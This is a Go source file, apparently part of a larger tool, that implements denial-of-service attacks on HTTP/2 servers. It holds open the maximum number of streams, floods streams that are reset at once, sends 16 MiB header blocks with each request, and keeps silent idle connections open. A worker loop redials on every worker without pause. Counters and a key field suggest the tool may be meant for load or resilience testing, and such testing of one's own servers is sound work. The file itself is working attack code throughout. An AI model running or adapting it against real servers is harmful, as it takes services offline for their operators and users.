package main

import (
	"context"
	"sync"
	"time"
)

// The attacks on HTTP/2 itself.

// again makes one bare connection after another on every worker.
func again(ctx context.Context, o order, t *tally, attack func(*bare) error) {
	var all sync.WaitGroup
	for range o.Connections {
		all.Go(func() {
			for ctx.Err() == nil {
				b, err := dialBare(ctx, o.Address, o.Key, t)
				if err != nil {
					t.add("connections refused", 1)
					pause(ctx, 10*time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { b.Close() })
				if err := attack(b); err != nil && ctx.Err() == nil {
					t.add("connections lost", 1)
				}
				stop()
				b.Close()
				<-b.gone
				pause(ctx, time.Millisecond)
			}
		})
	}
	all.Wait()
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// hold waits until the server hangs up or the time is over.
func (b *bare) hold(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-b.gone:
	}
}

// held opens streams with one message each and keeps them, however many are
// allowed.
func held(method string, message func(n int) []byte) attack {
	return func(ctx context.Context, o order, t *tally) {
		again(ctx, o, t, func(b *bare) error {
			for n := range o.Streams / o.Connections {
				stream, err := b.open(o.method(method), nil)
				if err == nil {
					err = b.send(stream, message(n), false)
				}
				if err != nil {
					return err
				}
				t.add("streams", 1)
			}
			b.hold(ctx)
			return nil
		})
	}
}

// resets opens streams and takes each back at once.
func resets(ctx context.Context, o order, t *tally) {
	again(ctx, o, t, func(b *bare) error {
		for ctx.Err() == nil {
			stream, err := b.open(o.method(watch), nil)
			if err == nil {
				err = b.send(stream, nil, false)
			}
			if err == nil {
				err = b.reset(stream)
			}
			if err != nil {
				return err
			}
			t.add("resets", 1)
		}
		return nil
	})
}

// headers sends 16 MiB of headers with each request.
func headers(ctx context.Context, o order, t *tally) {
	again(ctx, o, t, func(b *bare) error {
		for ctx.Err() == nil {
			if _, err := b.open(o.method(check), ballast()); err != nil {
				return err
			}
			t.add("blocks of 16 MiB", 1)
		}
		return nil
	})
}

// idle opens connections that say nothing more than that they are HTTP/2, and
// keeps them.
func idle(ctx context.Context, o order, t *tally) {
	var all sync.WaitGroup
	for range o.Streams / 4 {
		b, err := dialBare(ctx, o.Address, o.Key, t)
		if err != nil {
			t.add("connections refused", 1)
			pause(ctx, time.Millisecond)
			continue
		}
		all.Go(func() {
			b.hold(ctx)
			b.Close()
		})
	}
	all.Wait()
	<-ctx.Done()
}
